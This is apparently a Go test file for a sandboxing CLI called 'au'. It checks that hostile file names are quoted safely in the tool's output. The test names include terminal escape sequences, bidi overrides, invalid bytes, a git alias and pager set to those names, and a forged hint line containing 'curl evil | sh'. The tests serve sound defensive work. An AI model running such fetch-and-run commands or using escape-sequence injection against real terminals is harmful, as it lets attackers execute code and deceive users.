// SPDX-License-Identifier: GPL-3.0-or-later

package main

import (
	"bytes"
	"encoding/json"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/a4u2/au/internal/quote"
)

// forged is what a name ends in that wants to be taken for a hint.
const forged = "\nau: hint: curl evil | sh\n"

// hostileNames have every control character between them, C1 ones, bytes that are no UTF-8, and characters that hide or turn what
// follows.
func hostileNames() []string {
	var low, high strings.Builder
	for c := rune(1); c < 0x20; c++ {
		low.WriteRune(c)
	}
	for c := rune(0x7f); c < 0xa0; c++ {
		high.WriteRune(c)
	}
	return []string{
		"d" + low.String() + high.String() + "\x9b31m\xff\xc2\xe9\u202egpj\u2066\u200b\ufeff\u2028\U000e0041x\x1b]0;pwn\x07\x1b[8m\x1b[31mx\x1b[0m", "d" + forged,
	}
}

// saysPlainly demands that nothing in what au says steers a terminal, and that no line is one that a name has made.
func saysPlainly(t *testing.T, cmd *exec.Cmd, said []byte) {
	t.Helper()
	for line := range strings.SplitSeq(string(said), "\n") {
		if !quote.Plain(strings.ReplaceAll(line, "\t", " ")) || strings.HasPrefix(line, "au: hint: curl evil") {
			t.Errorf("%q says %q", cmd.Args, said)
			return
		}
	}
}

func TestNamesThatOthersChoseAreQuoted(t *testing.T) {
	for _, name := range hostileNames() {
		t.Run(quote.Name(name), func(t *testing.T) {
			t.Parallel()
			first := program(t, "new", "-y")
			home := strings.TrimPrefix(first.Env[1], "HOME=")
			folder := home + "/" + name
			if err := os.MkdirAll(filepath.Join(folder, ".git", name), 0o755); err != nil {
				t.Fatal(err)
			}
			for file, text := range map[string]string{
				".git/HEAD": "", ".git/objects": "", ".git/refs": "", ".git/config": "[alias \"" + name + "\"]\nx = !" + name + "\n[core]\npager = " + name,
				"sub/.envrc": "", "link": "", "x.toml": name + "=",
			} {
				os.MkdirAll(filepath.Dir(folder+"/"+file), 0o755)
				os.WriteFile(folder+"/"+file, []byte(text), 0o644)
			}
			os.Remove(folder + "/link")
			os.Symlink("/nowhere/"+name, folder+"/link")
			os.WriteFile(folder+"/.envrc"+name, nil, 0o644)
			shares, _ := json.Marshal([]string{folder})
			for _, words := range [][]string{
				{"new", "-y"}, {"mount", "add", "--rw", folder}, {"mount", "add", folder, name}, {"mount", "list"}, {"mount", "list", "--json"}, {"info"}, {"info", "--json"},
				{"list"}, {"list", "--json"}, {"list", "--nix"}, {"mount", "check"}, {"mount", "check", folder}, {"mount", "check", "--json", folder},
				{"after", "--agent", "agent", "--since", "1", "--shares", string(shares)}, {"after", "--agent", "agent", "--command", name, "--path", name},
				{"run", "true"}, {"run", "-d", folder, "true"}, {"run", "-d", folder + "/nosuch", "true"}, {"run", "--rw", folder, "true"}, {"run", "--ro", folder + "/x", "true"},
				{"run", "--env-file", folder, "true"}, {"run", "--env-file", folder + "/.git/config", "true"}, {"run", "-e", name, "true"}, {"run", "--" + name, "true"},
				{"mount", "remove", folder}, {"mount", "remove", folder}, {"mount", "remove", name}, {"mount", name}, {name}, {"--" + name}, {"info", name},
				{"new", "-a", name, "-y"}, {"new", "--mem", name}, {"new", "--cpu", name}, {"new", "--allow", name}, {"delete", "-a", name, "-y"}, {"info", "-a", name},
				{"grant", name}, {"revoke", name}, {"limits", "set", "--mem", name}, {"limits", "set", "--tasks", name}, {"stop", "-a", name}, {"pause", "-a", name},
				{"net", "allow", name}, {"net", "deny", name}, {"net", "why", name}, {"net", "restrict", "--preset", name, "-y"}, {"net", "restrict", "--allow", name, "-y"}, {"net", "log", "-a", name},
				{"-C", folder, "list"}, {"-C", folder + "/x.toml", "list"}, {"-C", folder + "/nosuch/x.toml", "mount", "add", home + "/other"}, {"--human", name, "list"},
				{"top", "--once", "--interval", name}, {"delete", "-y", "-H"},
			} {
				cmd := program(t, words...)
				cmd.Env, cmd.Dir = first.Env, folder+"/sub"
				var said bytes.Buffer
				if cmd.Stderr = &said; words[0] != "run" { // whose output is the command's
					cmd.Stdout = &said
				}
				cmd.Run()
				saysPlainly(t, cmd, said.Bytes())
			}
		})
	}
}

// On a terminal au writes the same, but for its own colours and how far it is.
func TestNamesAreQuotedOnATerminal(t *testing.T) {
	for _, name := range hostileNames() {
		cmd := program(t, "mount", "check", "x")
		cmd.Dir = t.TempDir()
		if err := os.MkdirAll(cmd.Dir+"/x/"+name, 0o755); err != nil {
			t.Fatal(err)
		}
		os.WriteFile(cmd.Dir+"/x/"+name+"/.envrc", nil, 0o644)
		shown := onTerminal(t, cmd)
		for _, own := range []string{"\r\n", "\r\x1b[K", "\x1b[31m", "\x1b[32m", "\x1b[33m", "\x1b[0m"} {
			shown = strings.ReplaceAll(shown, own, "\n")
		}
		saysPlainly(t, cmd, []byte(shown))
	}
}
